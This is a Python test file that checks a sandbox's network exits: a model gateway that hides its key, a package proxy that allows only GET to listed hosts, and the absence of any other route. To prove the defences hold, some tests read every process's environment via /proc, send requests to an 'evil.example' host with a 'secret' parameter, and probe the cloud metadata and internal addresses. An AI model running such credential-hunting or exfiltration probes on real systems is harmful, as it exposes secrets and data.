"""The ways out as they are seen from inside a jail: what each lets out, and that there is nothing beside it."""

from __future__ import annotations

import asyncio
import socket
import threading
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import pytest

from sandbox.base import Exits, Sandbox
from sandbox.config import ModelExitConfig, PackagesExitConfig
from sandbox.egress.denied import DeniedLog
from sandbox.egress.model import ModelExit
from sandbox.egress.packages import CERTIFICATE, PackagesExit
from sandbox.types import MIB, Command, Limits, Network, SandboxSpec
from tests.contract.conftest import Making
from tests.sandbox.egress.conftest import Registry, at_home, registry_behind_tls

LIMITS = Limits(memory=256 * MIB, processes=40, disk=64 * MIB, wall=60)
LABELS = {"task": "T9", "kind": "work"}
SECRET = "the-gateways-own-key"

STREAMED = """
import json, os, time, urllib.request as r
ask = r.Request(os.environ["OPENAI_BASE_URL"] + "/chat/completions", b'{"stream": true}')
ask.add_header("Content-Type", "application/json")
ask.add_header("Authorization", "Bearer " + os.environ["OPENAI_API_KEY"])
times = []
for line in r.urlopen(ask):
    if line.strip():
        times.append(time.monotonic())
        print(line.decode().strip())
print("apart", times[-1] - times[0] > 0.15)
"""
ASK = """
import os, sys, urllib.error, urllib.request as r
try:
    print(r.urlopen(r.Request(sys.argv[2], method=sys.argv[1])).status)
except urllib.error.HTTPError as error:
    print(error.code, error.read().decode())
except urllib.error.URLError as error:
    print(error.reason)
"""
NOTHING_ELSE = """
import errno, socket
def attempt(kind, family, address):
    with socket.socket(family, kind) as s:
        s.settimeout(2)
        try:
            s.connect(address)
            if kind == socket.SOCK_DGRAM:
                s.send(b"x")
                s.recv(10)
            return "through"
        except OSError as error:
            return errno.errorcode.get(error.errno, type(error).__name__)
for address in [("1.1.1.1", 443), ("10.0.0.1", 80), ("169.254.169.254", 80), ("127.0.0.1", 22), ("127.0.0.1", HOST)]:
    print(attempt(socket.SOCK_STREAM, socket.AF_INET, address))
for address in [("1.1.1.1", 53), ("127.0.0.53", 53), ("127.0.0.11", 53), ("127.0.0.1", 53)]:
    print(attempt(socket.SOCK_DGRAM, socket.AF_INET, address))
try:
    print(socket.getaddrinfo("pypi.org", 443))
except OSError as error:
    print("no name")
"""


async def python(box: Sandbox, program: str, *args: str) -> str:
    outcome = await box.run(Command(argv=("/usr/bin/python3", "-c", program, *args), timeout=60))
    return outcome.text


def spec(network: Network) -> SandboxSpec:
    return SandboxSpec(limits=LIMITS, network=network, labels=LABELS)


@pytest.fixture
def log() -> DeniedLog:
    return DeniedLog()


@pytest.fixture
def registry() -> Iterator[Registry]:
    yield from registry_behind_tls()


@pytest.fixture
async def gateway(tmp_path: Path) -> AsyncIterator[tuple[Path, list[bytes]]]:
    """A server on a unix socket that streams two events, 0.3 s apart, and all the heads that it saw."""
    seen: list[bytes] = []

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\ndata: one\n\n")
        await writer.drain()
        await asyncio.sleep(0.3)
        writer.write(b"data: two\n\n")
        await writer.drain()
        writer.close()

    server = await asyncio.start_unix_server(serve, tmp_path / "pool.sock")
    async with server:
        yield tmp_path / "pool.sock", seen


async def test_a_model_is_asked_by_the_environment_alone_and_streams(jailing: Making, gateway, log: DeniedLog) -> None:
    path, seen = gateway
    exits: Exits = {"model": ModelExit(ModelExitConfig(gateway=f"unix:{path}"), log, key=SECRET)}
    async with jailing(exits).open(spec("model")) as box:
        output = await python(box, STREAMED)
        assert output == "data: one\ndata: two\napart True\n"
        base = "http://127.0.0.1:8088"
        assert "404" in await python(box, ASK, "GET", f"{base}/admin/status")
        assert "404" in await python(box, ASK, "GET", f"{base}/metrics")
        everywhere = await box.run(Command(argv=("sh", "-c", "env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null")))
    [head] = seen
    assert f"authorization: Bearer {SECRET}".encode() in head
    assert b"x-program-id: T9" in head
    assert SECRET not in everywhere.text
    assert [(record.task, record.kind, record.path) for record in log.records] == [
        ("T9", "work", "/admin/status"),
        ("T9", "work", "/metrics"),
    ]


async def test_pip_installs_through_the_proxy_and_nothing_is_written_out(
    jailing: Making, registry: Registry, log: DeniedLog
) -> None:
    config = PackagesExitConfig(hosts=(registry.place,), pip_index=f"https://{registry.place}/simple/")
    exits: Exits = {"packages": PackagesExit(config, log, find=at_home, trust=registry.trust)}
    url = f"https://{registry.place}/simple/demo/"
    async with jailing(exits).open(spec("packages")) as box:
        assert (await box.run(Command(argv=("cat", CERTIFICATE)))).text.startswith("-----BEGIN CERTIFICATE-----")
        if (await box.run(Command(argv=("/usr/bin/python3", "-m", "pip", "--version")))).exit_code == 0:
            pip = ("/usr/bin/python3", "-m", "pip", "install", "--no-cache-dir", "--target", "site", "demo")
            outcome = await box.run(Command(argv=pip))
            assert outcome.exit_code == 0, outcome.text
            assert await box.read("site/demo.py") == b"ANSWER = 42\n"
        assert await python(box, ASK, "GET", url) == "200\n"
        assert "403 PUT is not among the methods" in await python(box, ASK, "PUT", url)
        assert "403" in await python(box, ASK, "GET", "https://evil.example/")
        assert "not among the hosts" in await python(box, ASK, "GET", "http://evil.example/?secret")
    assert {method for method, *_ in registry.seen} == {"GET"}
    assert [(record.task, record.host, record.method) for record in log.records] == [
        ("T9", "registry.test", "PUT"),
        ("T9", "evil.example", "CONNECT"),
        ("T9", "evil.example", "GET"),
    ]


@pytest.fixture
def listening() -> Iterator[int]:
    """A port of this machine's loopback on which somebody answers."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        threading.Thread(target=_answer, args=(server,), daemon=True).start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)


def _answer(server: socket.socket) -> None:
    try:
        while True:
            server.accept()[0].close()
    except OSError:
        return


@pytest.mark.parametrize("network", ["model", "packages"])
async def test_beside_the_way_out_there_is_no_network(
    jailing: Making, network: Network, listening: int, log: DeniedLog
) -> None:
    """DNS as a tunnel: gh-aw-firewall issue 1246, claude-code issue 36907."""
    exits: Exits = {
        "model": ModelExit(ModelExitConfig(gateway=f"http://127.0.0.1:{listening}"), log),
        "packages": PackagesExit(PackagesExitConfig(), log),
    }
    async with jailing(exits).open(spec(network)) as box:
        lines = (await python(box, NOTHING_ELSE.replace("HOST", str(listening)))).split("\n")
        links = await box.run(Command(argv=("cat", "/proc/net/dev")))
    assert not [line for line in lines if "through" in line or "timeout" in line.lower()], lines
    assert lines[-2] == "no name"
    assert [line.split(":")[0].strip() for line in links.text.splitlines() if ":" in line] == ["lo"]


async def test_a_sandbox_has_the_way_out_that_it_asked_for_alone(jailing: Making, gateway, log: DeniedLog) -> None:
    path, seen = gateway
    exits: Exits = {
        "model": ModelExit(ModelExitConfig(gateway=f"unix:{path}"), log),
        "packages": PackagesExit(PackagesExitConfig(), log),
    }
    backend = jailing(exits)
    for network in ("none", "packages"):
        async with backend.open(spec(network)) as box:
            assert "refused" in await python(box, ASK, "GET", "http://127.0.0.1:8088/health")
            told = await box.run(Command(argv=("env",)))
            assert "OPENAI" not in told.text
            assert ("proxy" in told.text) is (network == "packages")
    assert seen == []
    assert log.records == ()
